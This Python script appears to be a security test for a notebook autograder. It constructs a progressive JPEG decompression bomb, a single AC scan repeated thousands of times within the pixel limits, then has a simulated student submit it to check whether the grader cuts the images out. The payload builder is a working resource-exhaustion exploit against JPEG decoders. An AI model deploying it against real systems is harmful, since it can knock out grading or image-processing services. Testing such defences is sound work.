"""a10: within the pixel caps (4096 x 4096 each, four of them: the notebook's 64 Mpx exactly), a progressive JPEG
whose one AC scan is repeated thousands of times: each repeat is a few bytes (an end-of-band run covers the whole
image) and makes the decoder walk every block again (libjpeg warns of a bogus progression and goes on)."""
import sys, io, base64, zlib, struct; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *
from PIL import Image
from grader.feedback import image_size

def segments(raw):
    at, out = 2, []
    while at < len(raw):
        assert raw[at] == 0xFF, at
        m = raw[at + 1]
        if m == 0xD9: out.append((m, raw[at:at + 2])); break
        L = struct.unpack(">H", raw[at + 2:at + 4])[0]
        end = at + 2 + L
        if m == 0xDA:  # entropy data runs to the next marker that is not FF00 / RSTn
            j = end
            while True:
                j = raw.index(b"\xff", j)
                if raw[j + 1] == 0 or 0xD0 <= raw[j + 1] <= 0xD7: j += 2; continue
                break
            end = j
        out.append((m, raw[at:end])); at = end
    return out

def bomb(side=4096, repeats=20000):
    buf = io.BytesIO(); Image.new("L", (side, side), 0).save(buf, "JPEG", progressive=True, quality=50)
    raw = buf.getvalue(); segs = segments(raw)
    scans = [s for m, s in segs if m == 0xDA]
    # an AC first scan: Ss > 0, Ah == 0
    def params(s):
        L = struct.unpack(">H", s[2:4])[0]; n = s[4]; hdr = s[5 + 2 * n:5 + 2 * n + 3]; return hdr[0], hdr[1], hdr[2] >> 4, hdr[2] & 15
    ac = [s for s in scans if params(s)[0] > 0 and params(s)[2] == 0][0]
    body = b"".join(s for m, s in segs if m != 0xD9)
    return raw[:2] + body + ac * repeats + b"\xff\xd9", len(ac), [params(s) for s in scans]

if __name__ == "__main__":
    R = int(sys.argv[1]) if len(sys.argv) > 1 else 20000
    data, acl, ps = bomb(4096, R)
    print("scans", ps, "repeated scan bytes", acl, "image bytes", len(data), "checker", image_size("image/jpeg", base64.b64encode(data).decode()))
    packed = base64.b64encode(zlib.compress(data, 9)).decode()
    code = ('q1 = "b"\nimport base64, zlib\nfrom IPython.display import Image as _I, display as _d\n'
            f'_j = zlib.decompress(base64.b64decode("{packed}"))\n'
            'for _ in range(4): _d(_I(data=_j, format="jpeg"))\n')
    d = make_course("a10")
    hand_in(d, "aaron", notebook())
    hand_in(d, "mallory", notebook(overrides={"quiz_q1": code}))
    hand_in(d, "zoe", notebook())
    grade(d)
    scores(d)
    for where in (f"{d}/autograded/mallory/ps1_memory/ps1_memory.ipynb", f"{d}/feedback/mallory/ps1_memory/ps1_memory.html"):
        t = open(where).read()
        print(where, "size", len(t), "jpeg kept:", t.count("/9j/"), "not-shown notes:", t.count("not shown: at most"), "cut:", t.count("the grader cut"))
